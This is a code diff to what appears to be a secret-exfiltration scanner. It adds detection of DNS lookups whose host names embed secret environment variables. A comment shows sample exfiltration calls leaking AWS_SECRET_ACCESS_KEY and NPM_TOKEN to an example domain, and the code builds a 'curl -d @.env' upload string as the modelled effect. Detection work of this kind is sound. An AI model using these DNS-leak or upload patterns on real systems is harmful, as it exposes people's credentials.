@@ -34,9 +34,43 @@ function urlExpression(code: string, from: number): string {
   return code.slice(from, from + 400);
 }
 
+/**
+ * Name lookups whose argument is built from a secret variable (`socket.gethostbyname(os.environ
+ * ['AWS_SECRET_ACCESS_KEY'][:60] + '.x.example')`, `dns.lookup(process.env.NPM_TOKEN + '.x.example')`):
+ * the name travels to the domain's DNS server, which logs it. Python socket, Node dns, dnspython,
+ * Ruby Resolv, Java InetAddress, Go net.LookupHost, .NET Dns.
+ */
+const DNS_CALL =
+  /\b(?:gethostbyname(?:_ex)?|getaddrinfo|dns['"`]?\)?\.(?:lookup|resolve\w*|promises\.\w+)|resolver\.(?:resolve|query)|Resolv\.getaddress|InetAddress\.getByName|net\.Lookup(?:Host|IP|TXT)|Dns\.GetHostEntry)\s*\(/g;
+
+/** Cheap gate for the lookups above. */
+export const DNS_LOOKUP_HINT =
+  /gethostbyname|getaddrinfo|dns|resolver\.|Resolv\.|getByName|Lookup(?:Host|IP|TXT)|GetHostEntry/;
+
+function dnsSecretLookups(code: string, via: string): Effect[] {
+  for (const m of code.matchAll(DNS_CALL)) {
+    const expr = urlExpression(code, (m.index ?? 0) + m[0].length);
+    for (const e of expr.matchAll(ENV_BY_NAME)) {
+      const name = e.slice(1).find((g) => g !== undefined) ?? '';
+      if (!SECRET_NAME.test(name)) continue;
+      const host = /["'`]\.?([A-Za-z0-9-]+(?:\.[A-Za-z0-9-]+)+)["'`]/.exec(expr)?.[1] ?? 'a-dns-server';
+      return [
+        {
+          tool: 'exec',
+          command: `curl -d @.env https://${host}/`,
+          via: `${via} looks up a host name built from ${name}: the DNS server of ${host} receives it`,
+        },
+      ];
+    }
+  }
+  return [];
+}
+
 /** Uploads of secret variables that code builds into a URL (see the top of this file). */
 export function codeSecretUrls(code: string, via: string): Effect[] {
   if (!ENV_READ_HINT.test(code)) return [];
+  const dns = dnsSecretLookups(code, via);
+  if (dns.length) return dns;
   for (const m of code.matchAll(URL_START)) {
     const host = (m[1] ?? '').toLowerCase();
     if (!host || LOOPBACK.test(host) || isVendorHost(host) || isKnownRegistry(host)) continue;
